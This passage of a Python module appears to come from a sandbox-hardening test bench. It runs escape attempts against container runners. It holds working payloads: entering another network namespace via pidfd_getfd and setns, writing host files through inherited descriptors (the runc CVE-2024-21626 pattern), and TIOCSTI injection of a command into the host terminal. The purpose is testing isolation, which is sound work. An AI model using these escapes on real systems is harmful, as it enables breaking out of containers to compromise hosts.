    r = runner.run([PYTHON, "-c", _INIT_FDS], stdin=subprocess.DEVNULL)
    ran = "wrote [" in r.stdout
    wrote = ran and "wrote []" not in r.stdout
    broken = ran and (r.returncode != 7 or "Traceback" in r.stderr)
    detail = f"exit {r.returncode}; {r.stdout.strip()!r} {r.stderr[-300:]!r}"
    return Outcome(wrote or broken, detail, ran=ran)


_ENTER_OTHER_NETNS = r"""
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *a):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) for x in a])
    return r if r != -1 else -ctypes.get_errno()
own = os.readlink("/proc/self/ns/net")
pfd = sc(434, 1, 0)
print("pidfd_open", pfd if pfd < 0 else "ok")
for n in range(64):
    fd = sc(438, pfd, n, 0) if pfd >= 0 else -1
    if fd < 0:
        continue
    link = os.readlink("/proc/self/fd/%d" % fd)
    if link.startswith("net:") and link != own:
        r = sc(308, fd, 0x40000000)
        print("setns", link, "ok" if r == 0 else errno.errorcode[-r])
        if r == 0:
            print("entered", os.readlink("/proc/self/ns/net"))
            break
"""


def attempt_enter_other_node(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Take another topology node's namespace descriptor from init (pidfd_getfd) and enter it."""
    r = runner.run([PYTHON, "-c", _ENTER_OTHER_NETNS])
    detail = r.stdout.strip() + " " + r.stderr[-200:]
    return Outcome("entered" in r.stdout, detail, ran="pidfd_open" in r.stdout)


_INHERITED_FDS = r"""
import errno, os, sys
d, f = sys.argv[1], sys.argv[2]
for what, path, flags in (
    ("dir", "/proc/self/fd/%s/made-inside" % d, os.O_WRONLY | os.O_CREAT),
    ("file", "/proc/self/fd/%s" % f, os.O_WRONLY | os.O_TRUNC),
):
    try:
        fd = os.open(path, flags, 0o644)
        os.write(fd, b"written from the container\n")
        os.close(fd)
        print(what, "wrote")
    except OSError as e:
        print(what, errno.errorcode[e.errno])
"""


def attempt_inherited_fds(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Reach the host's files past the overlay through descriptors pycoz inherited
    from its caller (a directory's, and a file's opened read-only): create a file in
    the directory, reopen the file for writing (runc's CVE-2024-21626 leaked one)."""
    directory, victim = tmp / f"dir-{unique}", tmp / f"file-{unique}"
    directory.mkdir()
    victim.write_text(f"host file {unique}\n")
    before = sha256(victim)
    dfd = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
    ffd = os.open(victim, os.O_RDONLY)
    try:
        r = runner.run([PYTHON, "-c", _INHERITED_FDS, str(dfd), str(ffd)], pass_fds=(dfd, ffd))
    finally:
        os.close(dfd)
        os.close(ffd)
    made, changed = os.listdir(directory), sha256(victim) != before
    return Outcome(
        bool(made) or changed,
        f"made {made}; file {'changed' if changed else 'same'}; {r.stdout!r} {r.stderr[-300:]!r}",
        ran=r.stdout.startswith("dir "),
    )


# The terminal: TIOCSTI into the terminal the sandbox was started from.
TIOCSTI_SCRIPT = r"""
import errno, fcntl, sys, termios
text = sys.argv[1].replace("@", "/") + "\n"
n = 0
for c in text:
    try:
        fcntl.ioctl(0, termios.TIOCSTI, c.encode()); n += 1
    except OSError as e:
        print("TIOCSTI", errno.errorcode[e.errno]); break
print("pushed", n)
"""


def attempt_tiocsti(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Push a command into the input of the terminal the sandbox was started from (a
    shell in the test's own tmux), which that shell would run on the host."""
    marker = tmp / f"injected-{unique}"
    # The injected text on the typed line names the marker with @ for /, so the
    # typed line itself cannot create it.
    injected = f"touch {marker}".replace("/", "@")
    tmux = Tmux(tmp)
    try:
        tmux.start("a", "sh", env={"ENV": "", "HOME": str(tmp)})
        tmux.type("a", "PS1='P> '")
        tmux.wait_for("a", "P> ")
        cmd = shlex.join(runner.argv([PYTHON, "-c", TIOCSTI_SCRIPT, injected]))
        tmux.type("a", f"{cmd}; echo DONE-{unique}")
        tmux.wait_for("a", f"\nDONE-{unique}", timeout=60)
        # Whatever was pushed is read by the shell before this line.
        tmux.type("a", f"echo END-{unique}")
        tmux.wait_for("a", f"\nEND-{unique}")
        screen = tmux.screen("a")
    finally:
        tmux.close()
    executed = marker.exists()
    pushed = [line for line in screen.splitlines() if line.startswith(("pushed", "TIOCSTI"))]
    seen = pushed or screen.strip().splitlines()[-6:]  # what went wrong, if it did not run
    return Outcome(
        executed,
        f"host shell {'ran' if executed else 'did not run'} the pushed command; {seen}",
        ran=bool(pushed),
    )


@dataclass(frozen=True)
class Attempt:
    name: str
    run: Callable[[Runner, Path, str], Outcome]
    applies: Callable[[Runner], bool] = lambda runner: True


#: Every stateful attempt, in the bench's order; the probes (PROBE_NAMES) come with them.
ATTEMPTS = (
    Attempt("block-device-write", attempt_block_device_write, lambda r: r.own_root),
    Attempt("devtmpfs-host-dev", attempt_devtmpfs_host_dev, lambda r: r.own_root),
    Attempt("kmsg-write", attempt_kmsg_write, lambda r: r.own_root),
    Attempt("remount-host-fs-ro", attempt_remount_host_fs_ro, lambda r: r.own_root),
    Attempt("remount-sys-rw", attempt_remount_sys_rw, lambda r: r.own_root),
    Attempt("new-sysfs-tracefs-cgroup", attempt_new_sysfs_tracefs_cgroup, lambda r: r.own_root),
    Attempt("umount-proc-sys-write", attempt_umount_proc_sys_and_write),
    Attempt("host-link", attempt_host_link, lambda r: not r.own_net),
    Attempt("abstract-unix-connect", attempt_abstract_unix_connect),
    Attempt("session-keyring", attempt_session_keyring),
    Attempt("shocker", attempt_shocker, lambda r: r.takes_binds),
    Attempt("init-result-pipe", attempt_init_result_pipe, lambda r: r.kind == "pycoz"),
    Attempt("enter-other-node", attempt_enter_other_node, lambda r: r.own_net),
    Attempt("inherited-fds", attempt_inherited_fds, lambda r: r.own_root),
    Attempt("tiocsti", attempt_tiocsti, lambda r: not r.name.endswith("net-run")),
)


def cgroup_paths_of(pid: int) -> list[str]:
    """Where ``pid`` sits in each cgroup hierarchy, as host paths of directories."""
    mounts = {}
    with open("/proc/self/mountinfo") as f:
        for line in f:
            head, _, tail = line.partition(" - ")
            fstype, _, opts = tail.split()[:3]
            point = head.split()[4]
            if fstype == "cgroup2":
                mounts.setdefault("", point)
            elif fstype == "cgroup":
                for opt in opts.split(","):
                    mounts.setdefault(opt, point)
    paths = []
    with open(f"/proc/{pid}/cgroup") as f:
        for line in f:
            _, controllers, path = line.rstrip("\n").split(":", 2)
            first = controllers.split(",")[0] if controllers else ""
            if first in mounts:
                paths.append(mounts[first] + path)
    return paths


def wait_gone(paths, timeout: float = 5) -> list[str]:
    """The paths still there after up to ``timeout`` seconds."""
    wait_until(lambda: not [p for p in paths if os.path.exists(p)], timeout=timeout)
    return [p for p in paths if os.path.exists(p)]


__all__ = [
    "ATTEMPTS",
    "PROBE_NAMES",
    "Attempt",
    "Listener",
    "Outcome",
    "Runner",
    "bwrap_runners",
    "cgroup_paths_of",
    "pycoz_runners",
    "run_probes",
    "wait_gone",
]
